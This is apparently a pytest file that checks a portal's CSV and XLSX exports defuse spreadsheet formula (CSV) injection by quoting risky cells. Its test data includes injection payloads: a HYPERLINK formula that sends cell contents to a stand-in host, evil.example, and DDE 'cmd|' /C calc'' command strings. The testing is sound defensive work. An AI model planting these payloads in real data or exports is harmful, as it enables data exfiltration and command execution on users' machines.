"""Exports never hand a spreadsheet a formula (OWASP, CSV injection): a text cell starting
with = + - @, TAB, CR, LF or a full-width ＝＋－＠ is written with a leading ', XLSX text is
always a string cell, and numbers — negative ones too — stay numbers."""

import csv
import io

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import Session

from portal.dashboards.exports import to_csv, to_xlsx
from portal.dashboards.service import Table
from tests.factories import make_network, make_org, make_user
from tests.support.web import sign_in

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
HOSTILE = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
]
# Texts that start with a sign but are no formula: 表1's printed "-" and numbers as printed.
HARMLESS = ["普通名称", "-", "-35.4%", "[15]", "力争小于1.35", "—"]


def table() -> Table:
    rows: list[list[object]] = [[text, -3] for text in HOSTILE]
    rows += [[text, -1.5] for text in HARMLESS]
    rows.append(["零", 0])
    return Table("t", "测试表", ["名称", "数值"], rows, "测试来源", "2026-01-05")


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_csv_cells_that_would_be_formulas_get_a_quote_and_numbers_stay() -> None:
    rows = csv_rows(to_csv(table()))
    body = rows[1 : 1 + len(HOSTILE) + len(HARMLESS) + 1]
    assert [r[0] for r in body[: len(HOSTILE)]] == ["'" + t for t in HOSTILE]
    assert [r[0] for r in body[len(HOSTILE) : -1]] == HARMLESS
    assert [r[1] for r in body] == ["-3"] * len(HOSTILE) + ["-1.5"] * len(HARMLESS) + ["0"]


def test_xlsx_text_is_never_a_formula_and_numbers_stay_numbers() -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(table()))).worksheets[0]
    rows = list(sheet.iter_rows(min_row=2))
    for text, (name, value) in zip(HOSTILE, rows, strict=False):
        assert name.data_type == "s", text
        # openpyxl reads a lone CR back as LF with the standard library's XML parser and as
        # CR with lxml (installed with python-docx); what matters is the quote in front.
        assert name.value.replace("\r", "\n") == "'" + text.replace("\r", "\n"), text
        assert value.data_type == "n" and value.value == -3
    for text, (name, value) in zip(HARMLESS, rows[len(HOSTILE) :], strict=False):
        assert name.data_type == "s" and name.value == text
        assert value.data_type == "n" and value.value == -1.5


@pytest.mark.parametrize("text", ["#N/A", "#DIV/0!", "#REF!"])
def test_xlsx_text_that_looks_like_an_error_is_still_text(text: str) -> None:
    t = Table("t", "测试表", ["名称"], [[text]], "测试来源", "2026-01-05")
    cell = load_workbook(io.BytesIO(to_xlsx(t))).worksheets[0]["A2"]
    assert cell.data_type == "s" and cell.value == text


def test_a_declared_network_named_as_a_formula_is_text_in_the_officials_export(
    client: TestClient, session: Session
) -> None:
    org = make_org(session, kind="enterprise", name="@SUM(1+1)*cmd|' /C calc'!A0")
    token = sign_in(client, make_user(session, org=org).email)
    declared = client.post(
        "/networks/new",
        data={"csrf_token": token, "name": HYPERLINK, "operator": "china_mobile",
              "industry": "steel", "city": "loudi", "mode": "virtual", "status": "in_service"},
        follow_redirects=False,
    )  # fmt: skip
    assert declared.status_code == 303, declared.text
    client.cookies.clear()
    sign_in(client, make_user(session, role="official").email)

    xlsx = client.get("/exports/networks_pending.xlsx")
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "'" + HYPERLINK)
    assert row[1].data_type == "s"
    assert row[2].data_type == "s" and row[2].value == "'" + org.name
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)

    rows = csv_rows(client.get("/exports/networks_pending.csv").content)
    assert ["'" + HYPERLINK, "'" + org.name] in [r[1:3] for r in rows]


def test_text_a_spreadsheet_cannot_hold_does_not_break_the_export(
    client: TestClient, session: Session
) -> None:
    # Written before control characters were refused: the export still opens.
    make_network(session, name="响铃\x07专网\x1b[31m", confirmed=False)
    sign_in(client, make_user(session, role="official").email)
    xlsx = client.get("/exports/networks_pending.xlsx")
    assert xlsx.status_code == 200
    names = [r[1] for r in load_workbook(io.BytesIO(xlsx.content)).worksheets[0].values]
    assert "响铃\ufffd专网\ufffd[31m" in names
